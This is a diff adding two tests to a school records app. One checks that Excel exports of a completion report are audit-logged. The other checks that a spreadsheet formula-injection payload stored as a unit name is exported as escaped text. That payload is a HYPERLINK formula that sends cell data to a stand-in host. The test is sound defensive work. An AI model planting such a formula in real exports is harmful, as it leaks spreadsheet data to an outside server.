@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import json
 from typing import Any
 
 import pytest
 from openpyxl import load_workbook
 
+from hoso.audit.models import AuditEntry
 from hoso.org.models import Unit
 from hoso.records.completion import completion_matrix, completion_report
 from hoso.records.models import DueItem
@@ -110,3 +112,44 @@ def test_the_completion_query_count_does_not_grow_with_people(
         completion_report(
             user, so, START - dt.timedelta(days=300), END + dt.timedelta(days=300), NOW
         )
+
+
+def test_every_excel_export_is_audited_as_an_export(client_for: Any) -> None:
+    th1 = Unit.objects.get(code="TH1")
+    query = f"unit={th1.pk}&from=08/09/2025&to=14/09/2025"
+    before = AuditEntry.objects.filter(action="records.completion.exported").count()
+
+    response = client_for("phong1.chuyenvien").get(
+        f"/ho-so/tinh-hinh-nop/xuat.xlsx?{query}", REMOTE_ADDR="10.1.2.3"
+    )
+
+    assert response.status_code == 200
+    entries = AuditEntry.objects.filter(action="records.completion.exported")
+    assert entries.count() == before + 1
+    entry = entries.latest("seq")
+    assert (entry.actor.username, entry.object_id, entry.unit_id, entry.ip) == (
+        "phong1.chuyenvien",
+        str(th1.pk),
+        th1.pk,
+        "10.1.2.3",
+    )
+    assert json.loads(entry.data) == {
+        "format": "xlsx",
+        "unit": th1.pk,
+        "from": "08/09/2025",
+        "to": "14/09/2025",
+        "rows": 3,
+    }
+
+
+def test_a_unit_name_typed_as_a_formula_stays_text_in_the_export(client_for: Any) -> None:
+    group = Unit.objects.get(school__code="TH1", name="Tổ khối 1")
+    Unit.objects.filter(pk=group.pk).update(name='=HYPERLINK("http://x/?"&A1,"Bấm")')
+    th1 = Unit.objects.get(code="TH1")
+
+    sheet = client_for("th1.hieutruong").get(f"/ho-so/tinh-hinh-nop/xuat.xlsx?unit={th1.pk}")
+
+    book = load_workbook(io.BytesIO(sheet.content))
+    labels = [row[0] for row in book["Tổng hợp"].iter_rows(values_only=True)]
+    assert '\'=HYPERLINK("http://x/?"&A1,"Bấm")' in labels
+    assert not any(str(v).startswith("=") for v in labels if v)
